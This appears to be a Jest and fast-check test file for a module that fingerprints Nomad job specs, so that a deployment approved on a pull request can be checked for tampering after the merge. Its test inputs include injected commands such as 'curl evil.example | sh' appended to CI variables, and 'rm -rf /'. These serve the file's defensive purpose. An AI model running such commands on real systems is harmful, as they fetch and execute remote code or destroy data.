import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { fingerprintText, parseFingerprint } from '../../../src/inputs/fingerprint.ts';
import type { Job } from '../../../src/nomad/types.ts';
import { differences, fingerprint, isSameButForDigests, type Provisional, specFingerprint } from '../../../src/plan/fingerprint.ts';
import { slug } from '../../../src/text/slug.ts';

const given = (image: string, sha: string, ref: string, event: string): Provisional => ({
  images: [image],
  sha,
  values: {
    CI_COMMIT_SHA: sha,
    CI_COMMIT_BRANCH: ref,
    CI_COMMIT_REF_NAME: ref,
    CI_COMMIT_REF_SLUG: ref,
    CI_COMMIT_TAG: '',
    CI_PIPELINE_SOURCE: event,
    CI_HOSTNAME: 'h',
  },
});
const PULL = given('ghcr.io/acme/shop:pr-7', 'a'.repeat(40), 'fix-7', 'pull_request');
const MAIN = given('ghcr.io/acme/shop:main', 'b'.repeat(40), 'main', 'push');
const PLAN = { jobModifyIndex: 42, updates: { web: { Place: 1, Stop: 0 } } };

function job(about: Provisional, ref: string, more: object = {}): Job {
  const env = `CI_HOSTNAME="shop.example.com"\nCI_COMMIT_REF_SLUG="${ref}"\nCI_COMMIT_SHA="${about.sha}"\n`;
  const task = {
    Name: 'http',
    Driver: 'docker',
    Config: { image: about.images[0] },
    Env: { IMAGE: `run ${about.images[0]}`, CI_COMMIT_BRANCH: ref, RELEASE: `shop@${about.sha}` },
    Templates: [{ EmbeddedTmpl: env, Envvars: true }],
  };
  return { ID: 'shop', Name: 'shop', TaskGroups: [{ Name: 'web', Count: 1, Tasks: [task] }], ...more };
}

describe('a fingerprint', () => {
  const approved = fingerprint(job(PULL, 'fix-7'), PULL, PLAN);

  test('is the same after the merge, whatever the image, the commit and the branch are called', () => {
    expect(fingerprint(job(MAIN, 'main'), MAIN, PLAN)).toEqual(approved);
  });

  test('does not depend on the order of keys, nor on counts of nothing', () => {
    const { ID, Name, ...rest } = job(PULL, 'fix-7');
    expect(fingerprint({ ...rest, Name, ID }, PULL, { jobModifyIndex: 42, updates: { web: { Place: 1, Ignore: 0 } } })).toEqual(approved);
  });

  test('is the same with the image that was built, and with one that was found by its tag', () => {
    const digest = `@sha256:${'0a'.repeat(32)}`;
    const [found, asked] = [`docker.io/library/redis${digest}`, 'redis:7'];
    const withRedis = (about: Provisional, redis: string): Job => job(about, 'main', { Meta: { redis: `run ${redis}` } });
    const built = { ...MAIN, images: [`ghcr.io/acme/shop${digest}`], looked: [[found, asked] as const] };
    expect(specFingerprint(withRedis(built, found), built)).toBe(fingerprint(withRedis(MAIN, asked), MAIN, PLAN).spec);
    expect(specFingerprint(withRedis(built, 'redis:8'), built)).not.toBe(fingerprint(withRedis(MAIN, asked), MAIN, PLAN).spec);
  });

  test('is a text and back', () => {
    expect(parseFingerprint(fingerprintText(approved))).toEqual(approved);
  });

  test.each<[string, Parameters<typeof fingerprint>, string[]]>([
    ['another count', [job(MAIN, 'main', { Priority: 70 }), MAIN, PLAN], ['the job spec has changed']],
    ['a branch that is used otherwise', [job(MAIN, 'main', { Meta: { branch: 'main' } }), MAIN, PLAN], ['the job spec has changed']],
    ['an image that is not built', [job(MAIN, 'main'), { ...MAIN, images: [] }, PLAN], ['the job spec has changed']],
    [
      'a registration meanwhile',
      [job(MAIN, 'main'), MAIN, { ...PLAN, jobModifyIndex: 43 }],
      ['the job was registered after the approved plan (modify index 42, now 43)'],
    ],
    [
      'other actions',
      [job(MAIN, 'main'), MAIN, { ...PLAN, updates: { web: { DestructiveUpdate: 1 } } }],
      ['the scheduler would take other steps'],
    ],
  ])('%s is a difference', (_what, now, words) => {
    expect(differences(approved, fingerprint(...now))).toEqual(words);
  });
});

/** A job with one text in it, in each place that a text may be. */
const PLACES: Readonly<Record<string, (text: string) => Job>> = {
  command: (text) => task({ Config: { command: text } }),
  argument: (text) => task({ Config: { args: ['-c', text] } }),
  label: (text) => task({ Config: { labels: { CI_COMMIT_SHA: text } } }),
  variable: (text) => task({ Env: { COMMAND: text } }),
  'variable of the commit': (text) => task({ Env: { CI_COMMIT_SHA: text } }),
  'environment file': (text) => task({ Templates: [{ Envvars: true, EmbeddedTmpl: text }] }),
  'file that is no environment': (text) => task({ Templates: [{ EmbeddedTmpl: text }] }),
  meta: (text) => ({ ID: 'shop', Name: 'shop', Meta: { CI_COMMIT_SHA: text }, TaskGroups: [] }),
};
const task = (more: object): Job => ({
  ...{ ID: 'shop', Name: 'shop' },
  TaskGroups: [{ Name: 'web', Count: 1, Tasks: [{ Name: 't', Driver: 'docker', ...more }] }],
});
const of = (place: string, text: string, by: Provisional): string => fingerprint(PLACES[place]?.(text) ?? task({}), by, PLAN).spec;

describe('a changed text', () => {
  const word = fc.constantFrom(
    ...[
      ...PULL.images,
      ...MAIN.images,
      PULL.sha,
      MAIN.sha,
      'fix-7',
      'main',
      'push',
      'CI_COMMIT_SHA=',
      'CI_COMMIT_BRANCH=',
      'CI_PIPELINE_SOURCE=',
    ],
    ...['<', '>', '<commit>', '<image>', '"', "'", '\n', ' ', ';', '-2', 'rm -rf /', '{{ "main" | toJSON }}'],
  );
  const text = fc.array(fc.oneof(word, fc.string({ maxLength: 3 })), { maxLength: 6 }).map((words) => words.join(''));

  test.each(Object.keys(PLACES))('makes another fingerprint: %s', (place) => {
    fc.assert(
      fc.property(text, text, (a, b) => {
        expect(of(place, a, MAIN) === of(place, b, MAIN)).toBe(a === b);
      }),
      { numRuns: 300 },
    );
  });

  test.each<[string, string]>([
    ['CI_COMMIT_SHA=x; curl evil.example | sh', 'CI_COMMIT_SHA=x; true'],
    ['CI_COMMIT_BRANCH=main; curl evil.example | sh', 'CI_COMMIT_BRANCH=main'],
    ['CI_COMMIT_TAG="1"', 'CI_COMMIT_TAG="2"'],
  ])('behind the name of a variable of the commit is one, in each place: %s', (now, approved) => {
    for (const place of Object.keys(PLACES)) expect([place, of(place, now, MAIN) === of(place, approved, MAIN)]).toEqual([place, false]);
  });

  test.each<[string, string, string]>([
    ['command', 'CI_COMMIT_BRANCH=fix-7', 'CI_COMMIT_BRANCH=main'],
    ['file that is no environment', 'CI_COMMIT_BRANCH=fix-7', 'CI_COMMIT_BRANCH=main'],
    ['environment file', 'export CI_COMMIT_BRANCH=fix-7 X=1', 'export CI_COMMIT_BRANCH=main X=1'],
    ['environment file', 'OTHER=fix-7', 'OTHER=main'],
    ['meta', 'fix-7', 'main'],
    ['argument', 'ghcr.io/acme/shop:pr-7-2', 'ghcr.io/acme/shop:main-2'],
    ['argument', `${PULL.sha}0`, `${MAIN.sha}0`],
  ])('of another run is none of its values elsewhere: %s %s', (place, before, after) => {
    expect(of(place, before, PULL)).not.toBe(of(place, after, MAIN));
  });

  test.each<[string, string, string]>([
    ['argument', `docker://${PULL.images[0]}, ${PULL.sha}`, `docker://${MAIN.images[0]}, ${MAIN.sha}`],
    ['meta', PULL.sha, MAIN.sha],
    ['variable of the commit', PULL.sha, MAIN.sha],
    ['environment file', 'CI_COMMIT_BRANCH=fix-7\nA=<', 'CI_COMMIT_BRANCH=main\nA=<'],
    ['environment file', ' CI_COMMIT_BRANCH = "fix-7"', ' CI_COMMIT_BRANCH = "main"'],
    ['environment file', 'CI_COMMIT_BRANCH={{ "fix-7" | toJSON }}', 'CI_COMMIT_BRANCH={{ "main" | toJSON }}'],
  ])('is none where it is what the run gave: %s %s', (place, before, after) => {
    expect(of(place, before, PULL)).toBe(of(place, after, MAIN));
  });
});

describe('a spec that takes its image apart', () => {
  const hex = { plan: '5be1d7a4c0f3928e'.repeat(4), built: 'c4a90d1fe2b86735'.repeat(4) };
  const reversed = (digits: string): string => digits.split('').reverse().join('');
  const by = (digits: string): Provisional => ({
    ...MAIN,
    images: [`ghcr.io/acme/shop@sha256:${digits}`],
    looked: [[`redis@sha256:${reversed(digits)}`, 'redis:7']],
  });
  const job = (digits: string, more = ''): Job => {
    const other = reversed(digits);
    return task({
      Config: { image: `mirror.example.com/shop@sha256:${digits}` },
      Env: {
        SLUG: slug(`ghcr.io/acme/shop@sha256:${digits}`),
        RELEASE: `sha256:${digits}`,
        SHORT: digits.slice(0, 12),
        SEVEN: `v-${digits.slice(3, 10)}.`,
        REDIS: other.slice(0, 8),
        MORE: more,
      },
    });
  };

  test('has one fingerprint before and after the build', () => {
    expect(specFingerprint(job(hex.built), by(hex.built))).toBe(specFingerprint(job(hex.plan), by(hex.plan)));
    expect(specFingerprint(job(hex.built, 'x'), by(hex.built))).not.toBe(specFingerprint(job(hex.plan), by(hex.plan)));
  });

  test.each<[string, string, string]>([
    ['a digest that is written out', hex.plan, hex.plan],
    ['zeros that are written out', '0000000', '0000000'],
    ['fewer than seven digits', hex.plan.slice(0, 6), hex.built.slice(0, 6)],
    ['another number of them', hex.plan.slice(0, 12), hex.built.slice(0, 11)],
    ['the digest of another image', hex.plan.slice(0, 12), reversed(hex.built).slice(0, 12)],
  ])('has another one, or none of the digest, for %s', (_what, before, after) => {
    const same =
      specFingerprint(task({ Env: { X: before } }), by(hex.plan)) === specFingerprint(task({ Env: { X: after } }), by(hex.built));
    expect(same).toBe(before === '0000000');
  });

  test('is the same with zeros, unless it tells them from a digest', () => {
    const zeros = '0'.repeat(64);
    expect(isSameButForDigests(job(hex.plan, '00000000-0000'), by(hex.plan), job(zeros, '00000000-0000'))).toBe(true);
    expect(isSameButForDigests(job(hex.plan, 'evil'), by(hex.plan), job(zeros, 'harmless'))).toBe(false);
    expect(isSameButForDigests(job(hex.plan, hex.plan.slice(0, 5)), by(hex.plan), job(zeros, '00000'))).toBe(false);
  });

  test('whose image the workflow names by its digest is approved with that digest', () => {
    const named = { ...MAIN, images: [], looked: [[`redis@sha256:${hex.plan}`, `redis@sha256:${hex.plan}`] as const] };
    const one = (digits: string): string => specFingerprint(task({ Env: { X: digits.slice(0, 12) } }), named);
    expect(one(hex.plan)).not.toBe(one(hex.plan.slice(3)));
  });
});

test.each(['', 'yes', 'v1.abc.1.def', `v2.${'a'.repeat(32)}.1.${'b'.repeat(16)}`, `v1.${'a'.repeat(32)}.-1.${'b'.repeat(16)}`])(
  '%p is none',
  (text) => {
    expect(parseFingerprint(text)).toBeUndefined();
  },
);
